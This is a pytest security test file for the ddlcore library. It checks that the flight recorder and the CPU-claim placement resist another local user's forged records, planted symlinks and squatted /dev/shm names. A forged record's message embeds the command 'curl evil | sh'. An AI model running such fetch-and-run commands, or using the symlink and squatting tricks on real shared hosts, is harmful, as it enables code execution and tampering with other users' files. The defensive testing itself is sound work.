"""What ddlcore writes on the host, against another local user (``ddlcore-stranger``).

The flight recorder's directory (``DDL_FLIGHT_RECORDER``) and its records: another user can
neither forge a rank's record for ``python -m ddlcore.trace``, nor block one, nor have a write
follow a link of theirs, nor read one. The CPU claims of `ddlcore.job.placement`: a name taken
first in /dev/shm does not stop pinning, and nothing is left there once the last job has ended
(those run in a mount namespace of their own, with a /dev/shm of their own)."""

from __future__ import annotations

import dataclasses
import json
import logging
import os
import pwd
import shutil
import stat
import subprocess
import sys
import threading
import uuid
from pathlib import Path

import numpy as np
import pytest

from ddlcore import calls, flight, trace
from ddlcore.errors import DDLTimeoutError
from ddlcore.job import placement
from tests.security.conftest import Stranger

ROOT = Path(__file__).resolve().parents[2]


# --- the flight recorder ---------------------------------------------------------------------
def _job() -> str:
    """A job name of this test's own: its first recorder writes rank<R>.json."""
    return f"victim-{uuid.uuid4().hex[:8]}:1"


def _record_one(rec: flight.FlightRecorder, fail: bool = False) -> None:
    """One allreduce through ``rec``, failing with a timeout where ``fail``."""

    def execute(call: calls.Call, seq: int) -> object:
        if fail:
            raise DDLTimeoutError("rank 0: allreduce #0: rank 1 silent")
        return call.result

    x = np.ones(5, np.float32)
    rec.recording(execute)(calls.prepare("allreduce", x, "sum", None, 0, 2), 0)


def _forge(folder: str, job: str) -> str:
    """The stranger's forged record of rank 1."""
    doc = {
        "format": flight.FORMAT,
        "version": flight.VERSION,
        "job": job,
        "comm": 0,
        "rank": 1,
        "size": 3,
        "host": "h",
        "pid": 1,
        "created": 0.0,
        "written": 1e12,
        "reason": "failure",
        "error": {"type": "DDLError", "message": "FORGED: run curl evil | sh", "peer": None},
        "entries": [],
    }
    with open(os.path.join(folder, "rank1.json"), "w") as f:
        json.dump(doc, f)
    return ""


def test_a_record_another_user_put_in_the_directory_is_not_read(
    stranger, shared_tmp, tmp_path, capsys
):
    folder = shared_tmp / "fr"
    folder.mkdir()
    folder.chmod(0o777)  # the victim's, open to all (a team's folder)
    job = _job()
    rec = flight.FlightRecorder(0, 3, job, entries=8, directory=str(folder))
    _record_one(rec)
    rec.closed()
    # A record of the victim's from elsewhere, that a symlink would pass off as rank 2's.
    private = tmp_path / "private.json"
    doc = flight.FlightRecorder(2, 3, job, entries=8).document("failure")
    doc["error"] = {"type": "DDLError", "message": "PRIVATE", "peer": None}
    private.write_text(flight.dumps(doc))

    stranger.run(_forge, str(folder), job)
    stranger.run(os.symlink, str(private), str(folder / "rank2.json"))
    trace.main([str(folder)])
    out, err = capsys.readouterr()
    assert "FORGED" not in out and "PRIVATE" not in out, out
    assert f"{folder / 'rank1.json'}: written by uid {stranger.uid}" in err, err
    assert f"{folder / 'rank2.json'}: a symbolic link" in err, err


def _plant_a_directory(folder: str) -> str:
    os.mkdir(folder)
    os.chmod(folder, 0o777)
    os.mkdir(os.path.join(folder, "rank0.json"))
    return ""


def test_a_directory_in_a_records_place_is_refused_up_front(stranger, shared_tmp, caplog):
    """The stranger made the directory first, with a directory where rank 0's record goes: the
    victim is told when its communicator starts, and by whom, not left with an error that names
    a record that never got written."""
    folder = shared_tmp / "fr"
    stranger.run(_plant_a_directory, str(folder))
    with caplog.at_level(logging.WARNING, logger="ddlcore"):
        rec = flight.FlightRecorder(0, 2, _job(), entries=8, directory=str(folder))
    assert f"belongs to uid {stranger.uid}" in caplog.text, caplog.text
    with pytest.raises(DDLTimeoutError) as failure:
        _record_one(rec, fail=True)
    assert "flight record:" not in str(failure.value)
    assert os.listdir(folder) == ["rank0.json"]


def _plant_a_link(folder: str, name: str, target: str) -> str:
    os.mkdir(folder)
    os.chmod(folder, 0o777)
    os.symlink(target, os.path.join(folder, name))
    return ""


def test_a_link_at_the_records_temporary_name_is_not_followed(stranger, shared_tmp, tmp_path):
    mine = tmp_path / "secret"  # a file of the victim's, the stranger's target
    mine.write_text("SECRET\n")
    mine.chmod(0o600)
    folder = shared_tmp / "fr"
    # The name a record's temporary file had (pid and thread of the writer: easy to guess).
    tmp = f"rank0.json.{os.getpid()}.{threading.get_ident()}.tmp"
    stranger.run(_plant_a_link, str(folder), tmp, str(mine))
    rec = flight.FlightRecorder(0, 2, _job(), entries=8, directory=str(folder))
    _record_one(rec)
    rec.closed()
    assert mine.read_text() == "SECRET\n"
    assert stat.S_IMODE(mine.stat().st_mode) == 0o600


def _read(path: str) -> str:
    try:
        with open(path) as f:
            return f.read()
    except OSError as exc:
        return f"refused: {exc.strerror}"


def test_records_are_the_owners_to_read(stranger, shared_tmp):
    folder = shared_tmp / "fr"  # missing: the recorder makes it
    rec = flight.FlightRecorder(0, 2, _job(), entries=8, directory=str(folder))
    _record_one(rec)
    rec.closed()
    path = folder / "rank0.json"
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    assert stranger.run(_read, str(path)).startswith("refused"), "the stranger read the record"


def _make_theirs(folder: str, kind: str, target: str) -> str:
    if kind == "symlink":
        os.symlink(target, folder)
    else:
        os.mkdir(folder)
        os.chmod(folder, 0o777 if kind == "open" else 0o755)
    return ""


@pytest.mark.parametrize("kind", ["theirs", "open", "symlink"])
def test_a_recorder_directory_another_user_made_is_refused(
    stranger, shared_tmp, tmp_path, caplog, kind
):
    """Theirs (root could write there all the same), theirs and open to all, or a symlink of
    theirs to a directory of the victim's: nothing is written, the victim is told why, and its
    collectives run as before."""
    folder = shared_tmp / "fr"
    victims = tmp_path / "elsewhere"
    victims.mkdir(mode=0o700)
    stranger.run(_make_theirs, str(folder), kind, str(victims))
    with caplog.at_level(logging.WARNING, logger="ddlcore"):
        rec = flight.FlightRecorder(0, 2, _job(), entries=8, directory=str(folder))
    why = "is not a directory" if kind == "symlink" else f"belongs to uid {stranger.uid}"
    assert why in caplog.text, caplog.text
    _record_one(rec)
    with pytest.raises(DDLTimeoutError, match="rank 1 silent"):
        _record_one(rec, fail=True)
    rec.closed()
    assert [e["state"] for e in rec.entries()] == ["failed"]  # slot 0: the failure replaced it
    assert os.listdir(victims) == []
    if kind != "symlink":
        assert os.listdir(folder) == []


# --- the CPU claims ---------------------------------------------------------------------------
def _namespace_works() -> bool:
    unshare = shutil.which("unshare")
    if unshare is None:
        return False
    probe = [unshare, "--mount", "--propagation", "private", "true"]
    return subprocess.run(probe, capture_output=True, timeout=120).returncode == 0


def _ours(top: str) -> list[str]:
    """What under ``top`` belongs to this user (the stranger's squats left out)."""
    found = []
    for folder, dirs, files in os.walk(top):
        for name in dirs + files:
            path = os.path.join(folder, name)
            if os.lstat(path).st_uid == os.geteuid():
                found.append(path)
    return sorted(found)


def _squat(kind: str, names: list[str], target: str) -> str:
    for name in names:
        if kind == "file":
            with open(name, "w") as f:
                f.write("")
            os.chmod(name, 0o666)
        elif kind == "symlink":
            os.symlink(target, name)
        else:
            os.mkdir(name)
            os.chmod(name, 0o777)
    return ""


def claims_world(request: str) -> None:
    """In a mount namespace with a /dev/shm and a ~/.cache/ddlcore of its own: the stranger
    squats (``squat``: a kind, or none), then two ranks of one job pin, rank 1 in a child
    process; prints what happened as JSON."""
    args = json.loads(request)
    placement.host_has_gpu = lambda: False
    uid, shm, home = os.geteuid(), "/dev/shm", args["home"]
    mine = frozenset(os.sched_getaffinity(0))
    victim_file = os.path.join(shm, "victims-own")
    with open(victim_file, "w") as f:
        f.write("MINE\n")
    if args["squat"]:  # the name of the claims file ddlcore used first, and of its folder now
        names = [f"{shm}/ddlcore-cpus-{uid}", f"{shm}/ddlcore-{uid}.d"]
        Stranger(**args["stranger"]).run(_squat, args["squat"], names, victim_file)

    def ours() -> list[str]:
        return [p for p in _ours(shm) + _ours(home) if p != victim_file]

    to_child, go = os.pipe()
    told, from_child = os.pipe()
    pid = os.fork()
    if pid == 0:  # rank 1: pins, says where, releases when told
        try:
            cpus, why = placement.pin_local_rank("auto", "job:1", 1, [mine, mine])
            os.write(from_child, json.dumps([cpus, why]).encode())
            os.read(to_child, 1)
            placement.release()
        except BaseException as exc:
            os.write(from_child, json.dumps([None, repr(exc)]).encode())
        finally:
            os._exit(0)
    rank1 = json.loads(os.read(told, 4096))
    rank0 = placement.pin_local_rank("auto", "job:1", 0, [mine, mine])
    while_both = ours()
    placement.release()
    after_first = ours()
    os.write(go, b"x")
    os.waitpid(pid, 0)
    with open(victim_file) as f:
        victims = f.read()
    report = {
        "ranks": [list(rank0), rank1],
        "while_both": while_both,
        "after_first": after_first,
        "after_last": ours(),
        "victims_file": victims,
    }
    print(json.dumps(report))


def _in_a_namespace(stranger: Stranger, squat: str) -> dict:
    """`claims_world` in a mount namespace of its own."""
    if not _namespace_works():
        pytest.skip("needs a mount namespace (unshare --mount) for a /dev/shm of the test's own")
    if len(os.sched_getaffinity(0)) < 2:
        pytest.skip("needs two CPUs")
    # The fallback place under the home, covered by a tmpfs too (the mount point must exist).
    home = os.path.join(pwd.getpwuid(os.geteuid()).pw_dir, ".cache", "ddlcore")
    os.makedirs(home, mode=0o700, exist_ok=True)
    request = json.dumps({"squat": squat, "home": home, "stranger": dataclasses.asdict(stranger)})
    script = (
        "mount -t tmpfs -o mode=1777 ddlcore-shm /dev/shm && mount -t tmpfs -o mode=700 "
        'ddlcore-home "$1" && shift && exec "$@"'
    )
    code = (
        "import sys; from tests.security.test_files import claims_world; claims_world(sys.argv[1])"
    )
    res = subprocess.run(
        ["unshare", "--mount", "--propagation", "private", "sh", "-c", script, "sh", home]
        + [sys.executable, "-c", code, request],
        capture_output=True,
        text=True,
        timeout=300,
        cwd=ROOT,
        env={**os.environ, "PYTHONPATH": str(ROOT)},
    )
    assert res.returncode == 0, res.stderr
    return json.loads(res.stdout.strip().splitlines()[-1])


def _blocks() -> list[list[int]]:
    return placement.cpu_shares(2, frozenset(os.sched_getaffinity(0)))


@pytest.mark.parametrize("squat", ["file", "symlink", "directory"])
def test_a_claims_name_another_user_took_does_not_stop_pinning(stranger, squat):
    got = _in_a_namespace(stranger, squat)
    assert [cpus for cpus, _ in got["ranks"]] == _blocks(), got
    assert got["victims_file"] == "MINE\n"
    assert got["after_last"] == [], got


def test_the_claims_are_gone_once_the_last_job_has_ended(stranger):
    got = _in_a_namespace(stranger, "")
    assert [cpus for cpus, _ in got["ranks"]] == _blocks(), got
    assert got["while_both"] and got["after_first"], got  # rank 1's claim is still live
    assert got["after_last"] == [], got
